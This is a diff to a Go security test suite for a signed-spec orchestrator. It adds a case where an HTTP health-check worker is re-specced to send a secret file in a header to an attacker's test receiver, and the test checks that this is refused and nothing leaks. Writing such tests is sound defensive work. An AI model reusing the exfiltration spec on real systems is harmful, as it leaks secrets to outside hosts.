@@ -215,6 +215,8 @@ func (l *attackLab) failedWith(id, reason string) {
 // and the services the operator runs are untouched.
 func TestAttacksOfANamespaceWriter(t *testing.T) {
 	l := newAttackLab(t)
+	legit := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
+	t.Cleanup(legit.Close)
 	signedTree := func(secs string) string {
 		return writeSpec(t, `
 name: atk
@@ -226,6 +228,10 @@ children:
   - name: talk
     kind: process
     process: {command: /bin/sh, args: ["-c", "cat `+l.secretFile+`; exec sleep 300"], host: atk-signed, startSeconds: 200ms}
+  - name: check
+    kind: http
+    http: {health: {url: "`+legit.URL+`/health"}}
+    observe: {interval: 1s}
 `)
 	}
 	r := l.starter("apply", "-f", signedTree("300"), "--sign-key", l.key, "--wait", "--timeout", "2m")
@@ -322,6 +328,24 @@ children:
 			l.refusedAsBefore("atk/svc", before, "is not signed")
 			notifyRefused(t, "atk/svc")
 			l.noLeak("atk/svc")
+		}},
+		{"a signed http worker re-specced to send a file to the attacker's URL", func(t *testing.T, l *attackLab) {
+			before := l.status("atk/check")
+			require.Equal(t, "running", before.State)
+			evil := spec.Node{Name: "check", Kind: spec.KindHTTP, HTTP: map[string]any{
+				"health": map[string]any{"url": l.hook.URL + "/health", "headers": map[string]any{"X-Leak": map[string]any{"file": l.secretFile}}}},
+				Observe: &spec.Observe{Interval: spec.Dur(time.Second)}}
+			l.signal("atk/check", spec.Update{Spec: evil})
+			// The restart is refused, and so is every observe under the
+			// refused spec: its request is what the attacker wrote.
+			eventually(t, time.Minute, func() (bool, string) {
+				return strings.Count(l.history("atk/check"), "is not signed, and this host runs only signed specs") >= 3, "fewer than 3 refusals in the history of atk/check"
+			})
+			l.noLeak("atk/check")
+			l.received.mu.Lock()
+			n := len(l.received.reqs)
+			l.received.mu.Unlock()
+			require.Zero(t, n, "the attacker's receiver got no request")
 		}},
 		{"a signed spec run by a workflow started by hand (rogue-1)", func(t *testing.T, l *attackLab) {
 			l.startRogue("rogue-1", workflows.WorkerInput{Path: "atk/svc", Spec: current, Generation: 1, Version: workflows.WorkerVersion})
